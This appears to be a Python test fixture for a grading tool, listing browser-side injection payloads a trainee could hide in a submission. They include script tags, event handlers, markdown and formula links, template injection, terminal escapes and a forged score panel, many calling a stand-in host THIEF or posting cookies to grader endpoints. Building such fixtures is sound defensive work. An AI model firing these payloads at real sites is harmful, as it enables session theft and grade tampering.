"""What a trainee may write to get at the examiner's browser, by name.

``THIEF`` stands for a server of the trainee's, ``ACT`` for a script that leaves a
mark, opens a dialog and tries to give points by every way a page has.
"""

ACT = (
    "top.pwned=1;alert(1);fetch('THIEF/fetch');"
    "fetch('/formgrader/api/students',{method:'POST',body:document.cookie});"
    "new Image().src='THIEF/img';navigator.sendBeacon('/formgrader/api/status');"
    "var r=new XMLHttpRequest();r.open('PUT','/formgrader/api/grade/x');r.send()"
)
_FIXED = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999"

# Each of these runs or loads something in a page without defences.
MARKUP = {
    "script": f"<script>{ACT}</script>",
    "script in capitals": f"<ScRiPt\n>{ACT}</sCrIpT >",
    "script from elsewhere": "<script src=THIEF/a.js></script>",
    "script module": "<script type=module>import 'THIEF/a.js'</script>",
    "script of data": '<script src="data:text/javascript,top.pwned=1"></script>',
    "script of a submitted file": "<script src=/files/submitted/a.js></script>",
    "picture that fails": f'<img src=x onerror="{ACT}">',
    "svg": f'<svg onload="{ACT}"><script>{ACT}</script></svg>',
    "svg animation": "<svg><a><animate attributeName=href values=javascript:top.pwned=1 "
    "/><text y=20>Full credit</text></a></svg>",
    "details": f'<details open ontoggle="{ACT}">more</details>',
    "focus": f'<input autofocus onfocus="{ACT}">',
    "video": f'<video><source onerror="{ACT}"></video>',
    "css animation": f"<style>@keyframes x{{}}</style>"
    f'<b style="animation-name:x" onanimationstart="{ACT}">b</b>',
    "frame with a page": f'<iframe srcdoc="<script>{ACT}</script>"></iframe>',
    "frame of our own": "<iframe src=/formgrader/manage_students></iframe>",
    "frame of a script": f'<iframe src="javascript:{ACT}"></iframe>',
    "object": '<object data="THIEF/object"></object>',
    "embed": '<embed src="data:text/html,<script>top.pwned=1</script>">',
    "base": '<base href="THIEF/">',
    "form": '<form id=f action="THIEF/form" method=post><button>Full credit</button>'
    f"</form><button form=f formaction='javascript:{ACT}'>Next</button>",
    "style sheet": "<link rel=stylesheet href=THIEF/a.css>",
    "import": "<style>@import url(THIEF/import.css);</style>",
    "theft by style": "<style>input{background:url(THIEF/style)}</style>",
    "preload": "<link rel=preload as=fetch href=THIEF/preload>"
    "<link rel=prefetch href=THIEF/prefetch><link rel=icon href=THIEF/icon>",
    "overlay": f'<a href="javascript:{ACT}" style="{_FIXED}">cover</a>',
    "beacon": '<img src="THIEF/beacon.png"><img srcset="THIEF/set.png 2x">',
    "dangling markup": "<img src='THIEF/dangling?",
    "breakout": f"</pre></textarea></title></style></div></main><script>{ACT}</script>",
    "comment": f"<!--><script>{ACT}</script>--><![CDATA[<script>{ACT}</script>]]>",
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={ACT}>"></noscript>'
    f'<math><mtext><table><mglyph><style><img src=x onerror="{ACT}">',
    "template": f"<div><template shadowrootmode=open><script>{ACT}</script></template>",
    "clobbered names": "<a id=submission_id href='#'></a><form id=formgrader name=MathJax>"
    "<input name=init></form><img name=base_url><a id=base_url href='#'></a>",
    "import map": '<script type=importmap>{"imports":{"x":"THIEF/x.js"}}</script>',
    "link": f'<a href="javascript:{ACT}">Full credit</a>',
}
# These need a renderer of markdown, formulas, templates or terminal sequences, or
# are not held by a policy alone: a text in its place is the only defence.
OTHER_TEXT = {
    "link to elsewhere": "<a href=THIEF/ ping=THIEF/ping>Next</a>",
    "refresh": '<meta http-equiv=refresh content="0;url=THIEF/refresh">',
    "markdown link": f"[Full credit](javascript:{ACT}) [b](data:text/html,<script>)",
    "markdown reference": f"[Full credit][r]\n\n[r]: javascript:{ACT}",
    "markdown autolink": "<javascript:top.pwned=1> <THIEF/autolink>",
    "markdown picture": "![a](THIEF/markdown.png) ![b](attachment:a.svg)",
    "spelt link": "[a](java&#115;cript:top.pwned=1) [b](\x01javascript:top.pwned=1)",
    "fenced": "```\n```\n<script>top.pwned=1</script>\n~~~html\n<img src=THIEF/f>",
    "mermaid": "```mermaid\ngraph TD;a-->b;click a call alert(1)\n```",
    "formula": "$\\href{javascript:top.pwned=1}{x}$ $$\\require{html}\\style{x}{y}$$"
    " \\(\\unicode{x3c}script\\) $\\class{score}{\\cssId{answer-why}{1}}$",
    "entities": "&lt;script&gt;top.pwned=1&lt;/script&gt; &#60;img src=x&#62;",
    "other alphabets": "＜script＞top.pwned=1＜/script＞ +ADw-script+AD4-",
    "template engine": "{{ 7 * 191 }} {% raw %} {{ cycler.__init__.__globals__ }} {#",
    "terminal link": "\x1b]8;;javascript:top.pwned=1\x07click\x1b]8;;\x07 \x1b[2J\x1b[1;1H",
    "turned round": "given \u202e2 / 0\u202c \u2066\u200f passed \u2069",
    "null": "<scr\x00ipt>top.pwned=1</scr\x00ipt>\ufeff",
    "one long line": "0123456789" * 20_000,
    "tower": "Z" + "\u0335\u0321\u0489" * 3000,
    "many lines": "line\n" * 30_000,
    "forged panel": '<div class="nbgrader_cell"><input class="score tabbable" '
    'id="answer-why" value="2"></div>',
}
